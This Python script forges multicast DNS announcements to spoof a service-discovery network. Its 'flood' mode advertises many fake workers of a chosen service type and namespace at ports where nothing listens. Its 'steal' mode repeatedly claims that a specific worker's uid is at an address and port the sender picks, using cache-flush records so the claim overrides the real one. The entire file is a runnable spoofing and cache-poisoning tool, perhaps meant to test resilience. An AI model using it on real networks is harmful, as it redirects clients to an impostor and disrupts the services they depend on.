"""Tells the network of workers that are none, by plain sockets.

`forge.py flood TYPE NAMESPACE COUNT ADDRESS SECURE`: so many workers of a namespace, whose type is known, each under a uid of its own,
all at ports of the address where nobody listens. `forge.py steal TYPE NAMESPACE UID ADDRESS PORT TIMES SECURE`: over and over
that the worker with this uid is at the address. ADDRESS is one of this host: IPv4. SECURE: `true` or `false`, whether they are said to
serve with TLS.
"""

import socket
import struct
import sys
import time
import uuid

GROUP, PORT = "224.0.0.251", 5353
A, PTR, TXT, SRV = 1, 12, 16, 33
INTERNET, FLUSH = 1, 0x8000
SHARED_SECONDS, OWN_SECONDS = 4500, 120
# As many records of workers as fit a packet.
TOGETHER = 3
# Slow enough that those who listen hear most of it.
PAUSE_SECONDS = 0.001
WORDS = ["pid=7", "version=0.1.0", "tags", "extra", "identity", "wool=1.0", "doors=session", "lang=rust", "lib=0.1.0"]


def name(text: str) -> bytes:
    """A name in DNS, not compressed."""
    labels = [label.encode() for label in text.rstrip(".").split(".")]
    return b"".join(bytes([len(label)]) + label for label in labels) + b"\0"


def record(owner: str, kind: int, seconds: int, data: bytes, flush: bool) -> bytes:
    return name(owner) + struct.pack(">HHIH", kind, INTERNET | (FLUSH if flush else 0), seconds, len(data)) + data


def worker(service: str, namespace: str, uid: str, address: str, port: int, secure: str) -> list:
    """What a worker's host tells of it."""
    instance, host = f"{uid}.{service}", f"{uid}.local."
    words = b"".join(bytes([len(word)]) + word.encode() for word in [*WORDS, f"secure={secure}", f"ns={namespace}"])
    return [
        record(service, PTR, SHARED_SECONDS, name(instance), False),
        record(instance, SRV, OWN_SECONDS, struct.pack(">HHH", 0, 0, port) + name(host), True),
        record(instance, TXT, SHARED_SECONDS, words, True),
        record(host, A, OWN_SECONDS, socket.inet_aton(address), True),
    ]


class Speaker:
    """Says answers that nobody has asked for."""

    def __init__(self, address: str):
        self._address = address
        self._socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._socket.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        # Answers from another port are none.
        self._socket.bind((address, PORT))
        self._socket.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(address))
        self._socket.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)

    def say(self, records: list) -> None:
        packet = struct.pack(">HHHHHH", 0, 0x8400, 0, len(records), 0, 0) + b"".join(records)
        self._socket.sendto(packet, (GROUP, PORT))
        time.sleep(PAUSE_SECONDS)


def flood(service: str, namespace: str, count: int, address: str, secure: str) -> None:
    speaker = Speaker(address)
    waiting = []
    for number in range(count):
        # The same in every run.
        uid = str(uuid.uuid5(uuid.NAMESPACE_DNS, str(number)))
        waiting.append(worker(service, namespace, uid, address, 1024 + number % 60000, secure))
        if len(waiting) == TOGETHER or number == count - 1:
            speaker.say([record for records in waiting for record in records])
            waiting = []


def steal(service: str, namespace: str, uid: str, address: str, port: int, times: int, secure: str) -> None:
    speaker = Speaker(address)
    for _ in range(times):
        speaker.say(worker(service, namespace, uid, address, port, secure))


if __name__ == "__main__":
    match sys.argv[1:]:
        case ["flood", service, namespace, count, address, secure]:
            flood(service, namespace, int(count), address, secure)
        case ["steal", service, namespace, uid, address, port, times, secure]:
            steal(service, namespace, uid, address, int(port), int(times), secure)
        case _:
            sys.exit(__doc__)
